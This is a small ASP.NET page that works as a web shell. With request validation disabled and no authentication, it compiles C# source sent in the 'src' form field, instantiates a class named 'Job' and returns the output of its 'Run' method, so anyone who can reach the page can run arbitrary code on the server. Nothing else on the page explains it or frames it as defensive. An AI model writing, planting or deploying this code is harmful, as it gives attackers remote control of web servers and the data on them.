<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        string src = Request.Form["src"];
        if (src == null) return;
        CompilerParameters cp = new CompilerParameters();
        cp.GenerateInMemory = true;
        cp.ReferencedAssemblies.Add("System.dll");
        cp.ReferencedAssemblies.Add("System.Web.dll");
        CompilerResults cr = new CSharpCodeProvider().CompileAssemblyFromSource(cp, src);
        if (cr.Errors.HasErrors) { foreach (CompilerError ce in cr.Errors) Response.Write(ce.ErrorText + "<br/>"); return; }
        object o = cr.CompiledAssembly.CreateInstance("Job");
        Response.Write(o.GetType().GetMethod("Run").Invoke(o, new object[] { Request.Form["arg"] }));
    }
</script>
